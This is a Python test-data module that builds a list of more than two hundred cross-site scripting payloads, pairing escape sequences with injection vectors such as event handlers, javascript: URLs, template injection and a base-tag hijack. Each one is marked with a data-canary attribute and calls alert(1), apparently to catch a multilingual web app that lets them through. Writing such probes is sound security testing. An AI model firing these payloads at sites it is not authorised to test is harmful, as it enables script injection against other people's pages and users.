"""Texts that would run in a browser if a page took them for its own: each way to run something behind each way to get out of a place.

Whatever runs calls alert(); whatever becomes an element has the attribute data-canary, so that a page which lets it in is found out
also where its policy stops the script.
"""

from itertools import cycle, product
from typing import Final

_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</textarea>",
    "</title>",
    "</style>",
    "</select>",
    "]]>",
    "</svg>",
    "` ",
    "&quot;&gt;",
    "\u2028",
)
_WAYS_IN: Final = (
    "<script data-canary>alert(1)</script>",
    "<img data-canary src=x onerror=alert(1)>",
    "<svg data-canary/onload=alert(1)>",
    "<svg data-canary><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<iframe data-canary srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<details data-canary open ontoggle=alert(1)>",
    "<input data-canary autofocus onfocus=alert(1)>",
    "<video data-canary><source onerror=alert(1)></video>",
    "<math data-canary><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<meta data-canary http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base data-canary href='//shop.example.com/'>",
    "<link data-canary rel=stylesheet href='data:text/css,*{color:red}'>",
    "<form data-canary action=javascript:alert(1)><button>x</form>",
    "<a data-canary href=javascript:alert(1)>x</a>",
    "<body data-canary onload=alert(1)>",
    "<div data-canary hx-get=/ hx-trigger=load hx-on::load=alert(1)>",
)
_ATTRIBUTES: Final = (
    '" data-canary onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' data-canary onclick='alert(1)",
    "x data-canary onfocus=alert(1) autofocus",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "\tjava\tscript:alert(1)//",
    "data:text/html,<script data-canary>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "';alert(1)//",
    '\\";alert(1);//',
    "</script data-canary><script>alert(1)//",
    "{% raw %}{{ alert(1) }}",
    "url(javascript:alert(1))",
    "%3Cscript data-canary%3Ealert(1)%3C/script%3E",
    "＜script data-canary＞alert(1)＜/script＞",
)
PAYLOADS: Final = [*(f"{out}{way}" for out, way in product(_WAYS_OUT, _WAYS_IN)), *_ATTRIBUTES]
assert len(PAYLOADS) >= 200


class Turns:
    """The payloads one after the other, without end."""

    def __init__(self) -> None:
        self._all = cycle(PAYLOADS)

    def one(self) -> str:
        return next(self._all)

    def some(self, count: int) -> str:
        return "\n".join(self.one() for _ in range(count))

    def texts(self, count: int = 1) -> dict[str, str]:
        """One text in each of the four languages."""
        return {language: self.some(count) for language in ("id", "en", "ms", "fil")}
